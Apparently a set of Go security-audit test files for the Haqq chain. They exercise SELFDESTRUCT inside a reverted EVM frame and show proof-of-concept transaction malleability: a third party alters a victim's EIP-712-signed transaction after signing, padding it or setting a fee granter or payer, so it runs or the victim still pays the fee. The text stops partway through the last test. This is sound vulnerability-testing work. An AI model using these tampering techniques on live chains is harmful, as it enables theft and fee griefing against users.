// catcher(victim, inner, flag, selector): if flag != 0, first victim.call(0x01) [victim.slot1 = 0xbb, in the outer
// frame] and bank.totalSupply() [a view call on a precompile, also in the outer frame];
// then inner.call(victim), the failure is tolerated; slot 0 = 1 + success of that call.
var zzCatcherRuntime = []byte{
	0x60, 0x40, 0x35, 0x15, 0x60, 0x32, 0x57, // if calldata word 2 == 0 skip
	0x60, 0x01, 0x60, 0x00, 0x53, // mstore8(0, 0x01)
	0x60, 0x00, 0x60, 0x00, 0x60, 0x01, 0x60, 0x00, 0x60, 0x00,
	0x60, 0x00, 0x35, 0x5a, 0xf1, 0x50, // victim.call(0x01); pop
	0x60, 0x60, 0x35, 0x60, 0x00, 0x52, // mstore(0, calldata word 3 = selector, left aligned)
	0x60, 0x00, 0x60, 0x00, 0x60, 0x04, 0x60, 0x00, 0x60, 0x00,
	0x61, 0x08, 0x04, 0x5a, 0xf1, 0x50, // call(gas, 0x0804, 0, 0, 4, 0, 0); pop
	0x5b,                               // 0x32
	0x60, 0x00, 0x35, 0x60, 0x00, 0x52, // mstore(0, victim)
	0x60, 0x00, 0x60, 0x00, 0x60, 0x20, 0x60, 0x00, 0x60, 0x00,
	0x60, 0x20, 0x35, 0x5a, 0xf1, // inner.call(victim)
	0x60, 0x01, 0x01, 0x60, 0x00, 0x55, // sstore(0, 1 + success)
	0x00,
}

func (s *PrecompileTestSuite) zzDeploy(init []byte) common.Address {
	addr, err := s.DeployContract(evmtypes.CompiledContract{ABI: abi.ABI{}, Bin: init})
	s.Require().NoError(err)
	s.zzNextBlock()
	return addr
}

func (s *PrecompileTestSuite) zzNextBlock() {
	var err error
	s.ctx, err = haqqtestutil.CommitAndCreateNewCtx(s.ctx, s.app, time.Second, nil)
	s.Require().NoError(err)
}

func (s *PrecompileTestSuite) zzRunSelfdestructInRevertedFrame(dirtyVictimInOuterFrame bool) {
	// bank precompile (0x0804): totalSupply() is a view method
	s.Require().Equal(common.HexToAddress("0x0804"), common.HexToAddress(bankprecompile.PrecompileAddress))
	selector := crypto.Keccak256([]byte(bankprecompile.TotalSupplyMethod + "()"))[:4]

	victim := s.zzDeploy(zzInit(zzVictimPrologue, zzVictimRuntime))
	inner := s.zzDeploy(zzInit(nil, zzInnerRuntime(selector)))
	catcher := s.zzDeploy(zzInit(nil, zzCatcherRuntime))

	// NOTE: the victim holds no coins, SELFDESTRUCT moves nothing: this is about the account, its code and its storage.

	// sanity: the victim is a contract with slot 0 = 0xaa and 1000 aISLM
	accBefore := s.app.EvmKeeper.GetAccount(s.ctx, victim)
	s.Require().NotNil(accBefore)
	s.Require().True(accBefore.IsContract())
	s.Require().Equal(common.BigToHash(big.NewInt(0xaa)), s.app.EvmKeeper.GetState(s.ctx, victim, common.Hash{}))
	supplyBefore := s.app.BankKeeper.GetSupply(s.ctx, utils.BaseDenom)

	flag := common.Hash{}
	if dirtyVictimInOuterFrame {
		flag = common.BigToHash(big.NewInt(1))
	}
	input := append(append(common.LeftPadBytes(victim.Bytes(), 32), common.LeftPadBytes(inner.Bytes(), 32)...), flag.Bytes()...)
	input = append(input, common.RightPadBytes(selector, 32)...)

	msg := evmtypes.NewTx(&evmtypes.EvmTxArgs{
		ChainID:  s.app.EvmKeeper.ChainID(),
		Nonce:    s.app.EvmKeeper.GetNonce(s.ctx, s.address),
		To:       &catcher,
		GasLimit: 2_000_000,
		GasPrice: s.app.FeeMarketKeeper.GetBaseFee(s.ctx),
		Input:    input,
	})
	msg.From = s.address.Hex()
	// DeliverEthTx also checks that the Ethereum transaction itself succeeded
	_, err := haqqtestutil.DeliverEthTx(s.app, s.privKey, msg)
	s.Require().NoError(err)

	// the inner frame (selfdestruct of the victim + view call on a precompile) reverted and the catcher went on
	s.Require().Equal(common.BigToHash(big.NewInt(1)), s.app.EvmKeeper.GetState(s.ctx, catcher, common.Hash{}),
		"catcher.slot0 = 1 + success flag of the inner call: the inner call must have failed")

	// PROPERTY: every state change made inside the reverted frame is undone. The victim was only touched there
	// (apart from the optional sstore(1, 0xbb) of the outer frame), so it must still be the contract it was.
	accAfter := s.app.EvmKeeper.GetAccount(s.ctx, victim)
	if s.Assert().NotNil(accAfter, "the victim's account was removed although the frame that destroyed it reverted") {
		s.Assert().True(accAfter.IsContract(), "the victim lost its code although the frame that destroyed it reverted")
	}
	s.Assert().Equal(common.BigToHash(big.NewInt(0xaa)).Hex(), s.app.EvmKeeper.GetState(s.ctx, victim, common.Hash{}).Hex(),
		"victim.slot0 was wiped although the frame that destroyed the victim reverted")
	if dirtyVictimInOuterFrame {
		s.Assert().Equal(common.BigToHash(big.NewInt(0xbb)).Hex(), s.app.EvmKeeper.GetState(s.ctx, victim, common.BigToHash(big.NewInt(1))).Hex(),
			"victim.slot1, written by the outer (successful) frame, is lost")
	}
	s.Assert().Equal(supplyBefore.String(), s.app.BankKeeper.GetSupply(s.ctx, utils.BaseDenom).String(),
		"the total supply changed")
}

// a SELFDESTRUCT in a frame that reverts, followed (in that frame) by a view call on a precompile
func (s *PrecompileTestSuite) TestZZHuntSelfdestructInRevertedFrame() {
	s.zzRunSelfdestructInRevertedFrame(false)
}

// same, and the outer (successful) frame has written one storage slot of the victim and made a view call on a
// precompile before
func (s *PrecompileTestSuite) TestZZHuntSelfdestructInRevertedFrameDirtyVictim() {
	s.zzRunSelfdestructInRevertedFrame(true)
}
