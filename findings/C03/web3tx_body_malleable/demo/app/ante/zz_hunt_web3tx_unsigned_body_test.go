package ante_test

import (
	sdkmath "cosmossdk.io/math"
	abci "github.com/cometbft/cometbft/abci/types"
	codectypes "github.com/cosmos/cosmos-sdk/codec/types"
	sdk "github.com/cosmos/cosmos-sdk/types"
	txtypes "github.com/cosmos/cosmos-sdk/types/tx"
	banktypes "github.com/cosmos/cosmos-sdk/x/bank/types"

	"github.com/haqq-network/haqq/crypto/ethsecp256k1"
	"github.com/haqq-network/haqq/testutil"
	utiltx "github.com/haqq-network/haqq/testutil/tx"
	haqqtypes "github.com/haqq-network/haqq/types"
	"github.com/haqq-network/haqq/utils"
)

// zzW3Setup funds a victim and returns it with its key, a receiver and the gas price to use.
func zzW3Setup(s *AnteTestSuite) (victim sdk.AccAddress, priv *ethsecp256k1.PrivKey, receiver sdk.AccAddress, gasPrice sdkmath.Int) {
	s.SetupTest()

	victim, priv = utiltx.NewAccAddressAndKey()
	receiver, _ = utiltx.NewAccAddressAndKey()
	s.Require().NoError(testutil.FundAccount(s.ctx, s.app.BankKeeper, victim, sdk.Coins{sdk.NewCoin(utils.BaseDenom, sdkmath.NewInt(1e18))}))
	zzW3Commit(s)

	gasPrice = sdkmath.NewIntFromBigInt(s.app.FeeMarketKeeper.GetBaseFee(s.ctx))
	if !gasPrice.IsPositive() {
		gasPrice = sdkmath.NewInt(1_000_000_000)
	}
	return victim, priv, receiver, gasPrice
}

func zzW3Commit(s *AnteTestSuite) {
	var err error
	s.ctx, err = testutil.CommitAndCreateNewCtx(s.ctx, s.app, 0, nil)
	s.Require().NoError(err)
}

// zzW3SignedSend returns the encoded bytes of a bank send of the victim for the ExtensionOptionsWeb3Tx route:
// the EIP-712 signature of the victim travels in the extension option, the Cosmos signature is empty. Built with
// the repository's own helper.
func zzW3SignedSend(s *AnteTestSuite, priv *ethsecp256k1.PrivKey, from, to sdk.AccAddress, amount sdkmath.Int, gas uint64, gasPrice sdkmath.Int) []byte {
	msg := &banktypes.MsgSend{
		FromAddress: from.String(),
		ToAddress:   to.String(),
		Amount:      sdk.Coins{sdk.NewCoin(utils.BaseDenom, amount)},
	}
	fees := sdk.Coins{sdk.NewCoin(utils.BaseDenom, gasPrice.MulRaw(int64(gas)))}
	tx, err := utiltx.CreateEIP712CosmosTx(s.ctx, s.app, utiltx.EIP712TxArgs{
		CosmosTxArgs: utiltx.CosmosTxArgs{
			TxCfg:   s.clientCtx.TxConfig,
			Priv:    priv,
			ChainID: s.ctx.ChainID(),
			Gas:     gas,
			Fees:    fees,
			Msgs:    []sdk.Msg{msg},
		},
		UseLegacyExtension: true,
		UseLegacyTypedData: true,
	})
	s.Require().NoError(err)

	bz, err := s.clientCtx.TxConfig.TxEncoder()(tx)
	s.Require().NoError(err)
	return bz
}

// zzW3AddNonCritical adds one entry to the body's non_critical_extension_options: an ExtensionOptionsWeb3Tx (a type
// the chain knows) whose fee_payer_sig holds n arbitrary bytes. Nothing reads non-critical extension options.
func zzW3AddNonCritical(s *AnteTestSuite, txBz []byte, n int) []byte {
	var raw txtypes.TxRaw
	s.Require().NoError(raw.Unmarshal(txBz))
	var body txtypes.TxBody
	s.Require().NoError(body.Unmarshal(raw.BodyBytes))

	junk := make([]byte, n)
	for i := range junk {
		junk[i] = 0x42
	}
	opt, err := codectypes.NewAnyWithValue(&haqqtypes.ExtensionOptionsWeb3Tx{FeePayerSig: junk})
	s.Require().NoError(err)
	body.NonCriticalExtensionOptions = append(body.NonCriticalExtensionOptions, opt)

	raw.BodyBytes, err = body.Marshal()
	s.Require().NoError(err)
	out, err := raw.Marshal()
	s.Require().NoError(err)
	return out
}

// zzW3AddUnknownField appends the unknown "non-critical" protobuf field 1024 with n arbitrary bytes to the body.
func zzW3AddUnknownField(s *AnteTestSuite, txBz []byte, n int) []byte {
	var raw txtypes.TxRaw
	s.Require().NoError(raw.Unmarshal(txBz))

	ext := []byte{0x82, 0x40} // (1024 << 3) | 2
	l := uint64(n)
	for l >= 0x80 {
		ext = append(ext, byte(l)|0x80)
		l >>= 7
	}
	ext = append(ext, byte(l))
	for i := 0; i < n; i++ {
		ext = append(ext, 0x42)
	}
	raw.BodyBytes = append(append([]byte{}, raw.BodyBytes...), ext...)
	out, err := raw.Marshal()
	s.Require().NoError(err)
	return out
}

// Property C03: a transaction is executed on behalf of an account only if it carries a valid signature of that
// account over exactly the transaction content; a transaction that was changed after signing is rejected.
//
// ExtensionOptionsWeb3Tx route: somebody else adds content to the body of the victim's signed transaction.
func (s *AnteTestSuite) TestZZHuntWeb3TxChangedBodyIsExecuted() {
	for name, change := range map[string]func(*AnteTestSuite, []byte, int) []byte{
		"non-critical extension option added": zzW3AddNonCritical,
		"unknown field 1024 appended":         zzW3AddUnknownField,
	} {
		s.Run(name, func() {
			victim, priv, receiver, gasPrice := zzW3Setup(s)
			txBz := zzW3SignedSend(s, priv, victim, receiver, sdkmath.NewInt(1e14), 400_000, gasPrice)
			changed := change(s, txBz, 100)
			s.Require().NotEqual(txBz, changed)

			seqBefore := s.app.AccountKeeper.GetAccount(s.ctx, victim).GetSequence()
			recvBefore := s.app.BankKeeper.GetBalance(s.ctx, receiver, utils.BaseDenom).Amount

			res := s.app.BaseApp.DeliverTx(abci.RequestDeliverTx{Tx: changed})
			seqAfter := s.app.AccountKeeper.GetAccount(s.ctx, victim).GetSequence()
			recvAfter := s.app.BankKeeper.GetBalance(s.ctx, receiver, utils.BaseDenom).Amount
			s.T().Logf("signed tx %d bytes; delivered tx %d bytes: code %d, victim sequence %d -> %d, receiver %s -> %s",
				len(txBz), len(changed), res.Code, seqBefore, seqAfter, recvBefore, recvAfter)

			s.Require().NotEqual(uint32(0), res.Code, "a transaction whose body was changed after signing was executed")
			s.Require().Equal(seqBefore, seqAfter)
		})
	}
}

// The same change, sized by the attacker: the ante handler charges 10 gas per transaction byte against the gas
// limit the victim signed, so the victim's send runs out of gas after the fee was taken.
func (s *AnteTestSuite) TestZZHuntWeb3TxChangedBodyCostsTheVictimTheFee() {
	victim, priv, receiver, gasPrice := zzW3Setup(s)
	amount := sdkmath.NewInt(1e14)

	var gasNeeded uint64
	for i := 0; i < 2; i++ {
		txBz := zzW3SignedSend(s, priv, victim, receiver, amount, 400_000, gasPrice)
		res := s.app.BaseApp.DeliverTx(abci.RequestDeliverTx{Tx: txBz})
		s.Require().Equal(uint32(0), res.Code, res.Log)
		gasNeeded = uint64(res.GasUsed)
		s.T().Logf("untouched send %d: %d bytes, code %d, gas used %d", i+1, len(txBz), res.Code, res.GasUsed)
		zzW3Commit(s)
	}

	gasLimit := gasNeeded * 13 / 10
	fee := gasPrice.MulRaw(int64(gasLimit))
	txBz := zzW3SignedSend(s, priv, victim, receiver, amount, gasLimit, gasPrice)

	seqBefore := s.app.AccountKeeper.GetAccount(s.ctx, victim).GetSequence()
	balBefore := s.app.BankKeeper.GetBalance(s.ctx, victim, utils.BaseDenom).Amount
	recvBefore := s.app.BankKeeper.GetBalance(s.ctx, receiver, utils.BaseDenom).Amount

	changed := zzW3AddNonCritical(s, txBz, int(gasLimit-gasNeeded)/10+100)
	res := s.app.BaseApp.DeliverTx(abci.RequestDeliverTx{Tx: changed})
	s.T().Logf("signed tx %d bytes, gas limit %d, fee %s; delivered tx %d bytes: code %d (%s), gas wanted %d used %d, log %q",
		len(txBz), gasLimit, fee, len(changed), res.Code, res.Codespace, res.GasWanted, res.GasUsed, res.Log)

	seqAfter := s.app.AccountKeeper.GetAccount(s.ctx, victim).GetSequence()
	balAfter := s.app.BankKeeper.GetBalance(s.ctx, victim, utils.BaseDenom).Amount
	recvAfter := s.app.BankKeeper.GetBalance(s.ctx, receiver, utils.BaseDenom).Amount
	s.T().Logf("victim: sequence %d -> %d, balance %s -> %s (paid %s); receiver %s -> %s",
		seqBefore, seqAfter, balBefore, balAfter, balBefore.Sub(balAfter), recvBefore, recvAfter)

	s.Require().Equal(seqBefore, seqAfter, "the changed transaction used the victim's sequence number")
	s.Require().Equal(balBefore.String(), balAfter.String(), "the changed transaction was charged to the victim")
}
