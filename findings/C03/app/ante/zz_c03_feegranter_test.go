package ante_test

// Throw-away triage test for C03: is AuthInfo.Fee.Granter / Fee.Payer covered by
// EIP-712 signatures of ethsecp256k1 accounts?
//
// Run:
//   go test ./app/ante/ -run TestAnteTestSuite -testify.m TestZZC03 -ginkgo.skip='.*' -count=1 -v

import (
	"bytes"
	"fmt"

	sdkmath "cosmossdk.io/math"
	abci "github.com/cometbft/cometbft/abci/types"
	"github.com/cosmos/cosmos-sdk/client"
	sdk "github.com/cosmos/cosmos-sdk/types"
	txtypes "github.com/cosmos/cosmos-sdk/types/tx"
	"github.com/cosmos/cosmos-sdk/types/tx/signing"
	authsigning "github.com/cosmos/cosmos-sdk/x/auth/signing"
	authtypes "github.com/cosmos/cosmos-sdk/x/auth/types"
	banktypes "github.com/cosmos/cosmos-sdk/x/bank/types"
	"github.com/cosmos/cosmos-sdk/x/feegrant"

	"github.com/haqq-network/haqq/crypto/ethsecp256k1"
	"github.com/haqq-network/haqq/testutil"
	testutiltx "github.com/haqq-network/haqq/testutil/tx"
	"github.com/haqq-network/haqq/utils"
)

const (
	zzGas = uint64(500_000)
)

var (
	zzFee        = sdkmath.NewInt(1e16) // 0.01 ISLM
	zzSendAmt    = sdkmath.NewInt(1e14)
	zzInitial    = sdkmath.NewInt(1e18)
	zzGrantLimit = sdkmath.NewInt(5e17)
)

type zzEnv struct {
	sPriv      *ethsecp256k1.PrivKey
	s, g, r, p sdk.AccAddress
	feeColl    sdk.AccAddress
}

type zzBalances struct {
	s, g, r, p, feeColl sdkmath.Int
	allowance           string
}

// zzRoute identifies how the tx is built/signed.
type zzRoute int

const (
	// plain Cosmos route, SIGN_MODE_DIRECT, signature = EIP-712 (new typed data) -> pubkey fallback
	zzRouteDirectEIP712New zzRoute = iota
	// plain Cosmos route, SIGN_MODE_DIRECT, signature = EIP-712 (legacy typed data) -> pubkey fallback (legacy)
	zzRouteDirectEIP712Legacy
	// plain Cosmos route, SIGN_MODE_LEGACY_AMINO_JSON, signature = EIP-712 (new typed data) -> pubkey fallback
	zzRouteAminoEIP712New
	// legacy route: ExtensionOptionsWeb3Tx + LegacyEip712SigVerificationDecorator
	zzRouteLegacyWeb3Extension
	// control: plain ECDSA over SIGN_MODE_DIRECT sign bytes (no EIP-712)
	zzRouteDirectPlainECDSA
	// control: plain ECDSA over SIGN_MODE_LEGACY_AMINO_JSON sign bytes (no EIP-712)
	zzRouteAminoPlainECDSA
)

func (r zzRoute) String() string {
	return [...]string{
		"DIRECT+EIP712(new typed data) via pubkey fallback",
		"DIRECT+EIP712(legacy typed data) via pubkey fallback",
		"AMINO_JSON+EIP712(new typed data) via pubkey fallback",
		"legacy ExtensionOptionsWeb3Tx route",
		"control: DIRECT plain ECDSA",
		"control: AMINO_JSON plain ECDSA",
	}[r]
}

func (suite *AnteTestSuite) zzSetup() zzEnv {
	var env zzEnv
	env.s, env.sPriv = testutiltx.NewAccAddressAndKey()
	env.g, _ = testutiltx.NewAccAddressAndKey()
	env.r, _ = testutiltx.NewAccAddressAndKey()
	env.p, _ = testutiltx.NewAccAddressAndKey()
	env.feeColl = suite.app.AccountKeeper.GetModuleAddress(authtypes.FeeCollectorName)

	coins := sdk.NewCoins(sdk.NewCoin(utils.BaseDenom, zzInitial))
	suite.Require().NoError(testutil.FundAccount(suite.ctx, suite.app.BankKeeper, env.s, coins))
	suite.Require().NoError(testutil.FundAccount(suite.ctx, suite.app.BankKeeper, env.g, coins))
	suite.Require().NoError(testutil.FundAccount(suite.ctx, suite.app.BankKeeper, env.p, coins))

	// G grants S a basic fee allowance. Nobody else is involved.
	err := suite.app.FeeGrantKeeper.GrantAllowance(suite.ctx, env.g, env.s, &feegrant.BasicAllowance{
		SpendLimit: sdk.NewCoins(sdk.NewCoin(utils.BaseDenom, zzGrantLimit)),
	})
	suite.Require().NoError(err)

	// Commit twice: the first Commit after InitChain leaves the CheckTx state with the InitChain header
	// (height 0), which makes the SDK sig-verification decorators treat CheckTx as "genesis"
	// (account number forced to 0). After the second commit checkState has a real block header.
	suite.ctx, err = testutil.CommitAndCreateNewCtx(suite.ctx, suite.app, 0, nil)
	suite.Require().NoError(err)
	suite.ctx, err = testutil.CommitAndCreateNewCtx(suite.ctx, suite.app, 0, nil)
	suite.Require().NoError(err)
	return env
}

func (suite *AnteTestSuite) zzBalances(env zzEnv) zzBalances {
	bal := func(a sdk.AccAddress) sdkmath.Int {
		return suite.app.BankKeeper.GetBalance(suite.ctx, a, utils.BaseDenom).Amount
	}
	b := zzBalances{s: bal(env.s), g: bal(env.g), r: bal(env.r), p: bal(env.p), feeColl: bal(env.feeColl)}
	al, err := suite.app.FeeGrantKeeper.GetAllowance(suite.ctx, env.g, env.s)
	if err != nil {
		b.allowance = "ERR:" + err.Error()
	} else if ba, ok := al.(*feegrant.BasicAllowance); ok {
		b.allowance = ba.SpendLimit.String()
	} else {
		b.allowance = fmt.Sprintf("%T", al)
	}
	return b
}

// zzBuild builds and signs a MsgSend S->R with EMPTY fee granter / fee payer on the given route.
func (suite *AnteTestSuite) zzBuild(env zzEnv, route zzRoute) client.TxBuilder {
	msg := &banktypes.MsgSend{
		FromAddress: env.s.String(),
		ToAddress:   env.r.String(),
		Amount:      sdk.NewCoins(sdk.NewCoin(utils.BaseDenom, zzSendAmt)),
	}
	txCfg := suite.clientCtx.TxConfig
	args := testutiltx.CosmosTxArgs{
		TxCfg:   txCfg,
		Priv:    env.sPriv,
		ChainID: suite.ctx.ChainID(),
		Gas:     zzGas,
		Fees:    sdk.NewCoins(sdk.NewCoin(utils.BaseDenom, zzFee)),
		Msgs:    []sdk.Msg{msg},
	}

	switch route {
	case zzRouteDirectPlainECDSA, zzRouteAminoPlainECDSA:
		mode := signing.SignMode_SIGN_MODE_DIRECT
		if route == zzRouteAminoPlainECDSA {
			mode = signing.SignMode_SIGN_MODE_LEGACY_AMINO_JSON
		}
		// PrepareCosmosTx uses GasPrice (or DefaultFee=1e16) for the fee amount, not args.Fees
		tx, err := testutiltx.PrepareCosmosTx(suite.ctx, suite.app, args, mode)
		suite.Require().NoError(err)
		b, err := txCfg.WrapTxBuilder(tx)
		suite.Require().NoError(err)
		return b
	}

	eargs := testutiltx.EIP712TxArgs{CosmosTxArgs: args}
	switch route {
	case zzRouteDirectEIP712New, zzRouteAminoEIP712New:
	case zzRouteDirectEIP712Legacy:
		eargs.UseLegacyTypedData = true
	case zzRouteLegacyWeb3Extension:
		eargs.UseLegacyExtension = true
		eargs.UseLegacyTypedData = true
	}
	b, err := testutiltx.PrepareEIP712CosmosTx(suite.ctx, suite.app, eargs)
	suite.Require().NoError(err)

	if route == zzRouteAminoEIP712New {
		// Same EIP-712 signature, but declare SIGN_MODE_LEGACY_AMINO_JSON in the signer info, so the
		// SDK SigVerificationDecorator hands the amino-JSON StdSignDoc to PubKey.VerifySignature.
		sigs, err := b.GetTx().GetSignaturesV2()
		suite.Require().NoError(err)
		suite.Require().Len(sigs, 1)
		single := sigs[0].Data.(*signing.SingleSignatureData)
		single.SignMode = signing.SignMode_SIGN_MODE_LEGACY_AMINO_JSON
		suite.Require().NoError(b.SetSignatures(sigs[0]))
	}
	return b
}

func (suite *AnteTestSuite) zzEncode(b client.TxBuilder) []byte {
	bz, err := suite.clientCtx.TxConfig.TxEncoder()(b.GetTx())
	suite.Require().NoError(err)
	return bz
}

// zzDescribe decodes raw tx bytes and reports the fee / signature fields.
func (suite *AnteTestSuite) zzDescribe(label string, bz []byte) *txtypes.Tx {
	var raw txtypes.TxRaw
	suite.Require().NoError(raw.Unmarshal(bz))
	var t txtypes.Tx
	suite.Require().NoError(t.Unmarshal(bz))
	suite.T().Logf("  %-9s len=%d fee.amount=%s gas=%d fee.payer=%q fee.granter=%q signMode=%s sig=%x.. extOpts=%d",
		label, len(bz), sdk.Coins(t.AuthInfo.Fee.Amount), t.AuthInfo.Fee.GasLimit, t.AuthInfo.Fee.Payer, t.AuthInfo.Fee.Granter,
		t.AuthInfo.SignerInfos[0].ModeInfo.GetSingle().GetMode(), zzHead(t.Signatures[0]), len(t.Body.ExtensionOptions))
	return &t
}

func zzHead(b []byte) []byte {
	if len(b) > 8 {
		return b[:8]
	}
	return b
}

func zzFeePayerEvent(events []abci.Event) string {
	for _, ev := range events {
		if ev.Type != sdk.EventTypeTx {
			continue
		}
		for _, a := range ev.Attributes {
			if a.Key == sdk.AttributeKeyFeePayer {
				return a.Value
			}
		}
	}
	return ""
}

type zzOutcome struct {
	checkOrigCode uint32
	checkOrigLog  string
	code          uint32
	log           string
	feePayerEvent string
	before, after zzBalances
	sameSig       bool
	sameBody      bool
}

func (o zzOutcome) payer(env zzEnv) string {
	dS := o.before.s.Sub(o.after.s)
	dG := o.before.g.Sub(o.after.g)
	dP := o.before.p.Sub(o.after.p)
	switch {
	case o.code != 0:
		return "nobody (tx rejected)"
	case dG.Equal(zzFee) && dS.Equal(zzSendAmt):
		return "G (granter)"
	case dS.Equal(zzFee.Add(zzSendAmt)) && dG.IsZero():
		return "S (signer)"
	case dP.Equal(zzFee):
		return "P"
	}
	return fmt.Sprintf("unclear dS=%s dG=%s dP=%s", dS, dG, dP)
}

// zzScenario: build+sign with `pre` applied BEFORE signing (may be nil), CheckTx the signed tx,
// then apply `post` WITHOUT re-signing and DeliverTx the altered bytes.
func (suite *AnteTestSuite) zzScenario(name string, route zzRoute, pre, post func(env zzEnv, b client.TxBuilder)) (zzEnv, zzOutcome) {
	suite.SetupTest()
	env := suite.zzSetup()
	suite.T().Logf("=== %s | route: %s", name, route)
	suite.T().Logf("  S=%s G=%s R=%s P=%s", env.s, env.g, env.r, env.p)

	var out zzOutcome
	b := suite.zzBuild(env, route)
	if pre != nil {
		// NOTE for the EIP-712 routes the signature produced by the wallet does not depend on the
		// granter at all (the typed data has no such field), so setting it "before signing" is the same as
		// what a wallet that wants to use a grant would produce. For the plain ECDSA controls we skip `pre`.
		pre(env, b)
	}
	signedBz := suite.zzEncode(b)
	signedTx := suite.zzDescribe("signed:", signedBz)

	resCheck := suite.app.BaseApp.CheckTx(abci.RequestCheckTx{Tx: signedBz, Type: abci.CheckTxType_New})
	out.checkOrigCode, out.checkOrigLog = resCheck.Code, resCheck.Log
	suite.T().Logf("  CheckTx(signed, unaltered): code=%d log=%q", resCheck.Code, resCheck.Log)

	deliverBz := signedBz
	if post != nil {
		post(env, b)
		deliverBz = suite.zzEncode(b)
		alteredTx := suite.zzDescribe("altered:", deliverBz)
		out.sameSig = bytes.Equal(signedTx.Signatures[0], alteredTx.Signatures[0])
		bodyA, _ := signedTx.Body.Marshal()
		bodyB, _ := alteredTx.Body.Marshal()
		out.sameBody = bytes.Equal(bodyA, bodyB)
		suite.T().Logf("  altered vs signed: same signature bytes=%v same body bytes=%v tx bytes equal=%v", out.sameSig, out.sameBody, bytes.Equal(signedBz, deliverBz))
	}

	out.before = suite.zzBalances(env)
	res := suite.app.BaseApp.DeliverTx(abci.RequestDeliverTx{Tx: deliverBz})
	out.after = suite.zzBalances(env)
	out.code, out.log = res.Code, res.Log
	out.feePayerEvent = zzFeePayerEvent(res.Events)

	suite.T().Logf("  DeliverTx(%s): code=%d log=%q gasUsed=%d", map[bool]string{true: "ALTERED", false: "unaltered"}[post != nil], res.Code, res.Log, res.GasUsed)
	suite.T().Logf("  fee_payer event = %q", out.feePayerEvent)
	suite.T().Logf("  S: %s -> %s (delta -%s)", out.before.s, out.after.s, out.before.s.Sub(out.after.s))
	suite.T().Logf("  G: %s -> %s (delta -%s)", out.before.g, out.after.g, out.before.g.Sub(out.after.g))
	suite.T().Logf("  P: %s -> %s (delta -%s)", out.before.p, out.after.p, out.before.p.Sub(out.after.p))
	suite.T().Logf("  R: %s -> %s", out.before.r, out.after.r)
	suite.T().Logf("  feeCollector: %s -> %s", out.before.feeColl, out.after.feeColl)
	suite.T().Logf("  allowance G->S: %s -> %s", out.before.allowance, out.after.allowance)
	suite.T().Logf("  VERDICT: accepted=%v fee paid by: %s", res.Code == 0, out.payer(env))
	return env, out
}

func zzSetGranterG(env zzEnv, b client.TxBuilder) { b.SetFeeGranter(env.g) }
func zzStripGranter(_ zzEnv, b client.TxBuilder)  { b.SetFeeGranter(nil) }
func zzSetPayerP(env zzEnv, b client.TxBuilder)   { b.SetFeePayer(env.p) }
func zzSetPayerS(env zzEnv, b client.TxBuilder)   { b.SetFeePayer(env.s) }

// ---------------------------------------------------------------------------------------------
// Baselines: unaltered tx, S pays.
// ---------------------------------------------------------------------------------------------

func (suite *AnteTestSuite) TestZZC03_A_Baselines() {
	for _, route := range []zzRoute{
		zzRouteDirectEIP712New, zzRouteDirectEIP712Legacy, zzRouteAminoEIP712New,
		zzRouteLegacyWeb3Extension, zzRouteDirectPlainECDSA, zzRouteAminoPlainECDSA,
	} {
		env, out := suite.zzScenario("baseline (no alteration)", route, nil, nil)
		suite.Require().Equal(uint32(0), out.checkOrigCode, out.checkOrigLog)
		suite.Require().Equal(uint32(0), out.code, out.log)
		suite.Require().Equal("S (signer)", out.payer(env))
	}
}

// ---------------------------------------------------------------------------------------------
// Attack: signed with empty granter, third party sets granter=G afterwards (no re-sign).
// ---------------------------------------------------------------------------------------------

func (suite *AnteTestSuite) TestZZC03_B_AddGranterAfterSigning() {
	results := []string{}
	for _, route := range []zzRoute{
		zzRouteDirectEIP712New, zzRouteDirectEIP712Legacy, zzRouteAminoEIP712New,
		zzRouteLegacyWeb3Extension, zzRouteDirectPlainECDSA, zzRouteAminoPlainECDSA,
	} {
		env, out := suite.zzScenario("add fee.granter=G after signing", route, nil, zzSetGranterG)
		suite.Require().Equal(uint32(0), out.checkOrigCode, out.checkOrigLog)
		suite.Require().True(out.sameSig)
		suite.Require().True(out.sameBody)
		results = append(results, fmt.Sprintf("%-55s accepted=%-5v payer=%s", route, out.code == 0, out.payer(env)))
	}
	suite.T().Log("SUMMARY add-granter-after-signing:")
	for _, r := range results {
		suite.T().Log("  " + r)
	}
}

// ---------------------------------------------------------------------------------------------
// Reverse: tx carries granter=G when signed/submitted; third party strips it afterwards.
// ---------------------------------------------------------------------------------------------

func (suite *AnteTestSuite) TestZZC03_C_StripGranterAfterSigning() {
	results := []string{}
	for _, route := range []zzRoute{zzRouteDirectEIP712New, zzRouteDirectEIP712Legacy, zzRouteLegacyWeb3Extension} {
		env, out := suite.zzScenario("signed/submitted with fee.granter=G, stripped afterwards", route, zzSetGranterG, zzStripGranter)
		results = append(results, fmt.Sprintf("%-55s checkTx(with granter) code=%d | stripped: accepted=%-5v payer=%s", route, out.checkOrigCode, out.code == 0, out.payer(env)))
	}
	suite.T().Log("SUMMARY strip-granter-after-signing:")
	for _, r := range results {
		suite.T().Log("  " + r)
	}
}

// ---------------------------------------------------------------------------------------------
// Fee payer: third party sets fee.payer afterwards.
// ---------------------------------------------------------------------------------------------

func (suite *AnteTestSuite) TestZZC03_D_SetPayerAfterSigning() {
	results := []string{}
	for _, route := range []zzRoute{zzRouteDirectEIP712New, zzRouteDirectEIP712Legacy, zzRouteLegacyWeb3Extension} {
		env, out := suite.zzScenario("set fee.payer=P (third account, no signature of P) after signing", route, nil, zzSetPayerP)
		results = append(results, fmt.Sprintf("%-55s payer=P: accepted=%-5v payer=%s log=%q", route, out.code == 0, out.payer(env), out.log))
		env, out = suite.zzScenario("set fee.payer=S (explicit self) after signing", route, nil, zzSetPayerS)
		results = append(results, fmt.Sprintf("%-55s payer=S: accepted=%-5v payer=%s log=%q", route, out.code == 0, out.payer(env), out.log))
	}
	suite.T().Log("SUMMARY set-payer-after-signing:")
	for _, r := range results {
		suite.T().Log("  " + r)
	}
}

// ---------------------------------------------------------------------------------------------
// Pubkey level: ethsecp256k1.PubKey.VerifySignature over two SIGN_MODE_DIRECT SignDocs that differ
// only in AuthInfo.Fee.Granter.
// ---------------------------------------------------------------------------------------------

func (suite *AnteTestSuite) TestZZC03_E_PubKeyLevel() {
	suite.SetupTest()
	env := suite.zzSetup()
	txCfg := suite.clientCtx.TxConfig

	for _, route := range []zzRoute{zzRouteDirectEIP712New, zzRouteDirectEIP712Legacy, zzRouteDirectPlainECDSA} {
		b := suite.zzBuild(env, route)
		acc := suite.app.AccountKeeper.GetAccount(suite.ctx, env.s)
		signerData := authsigning.SignerData{
			Address:       env.s.String(),
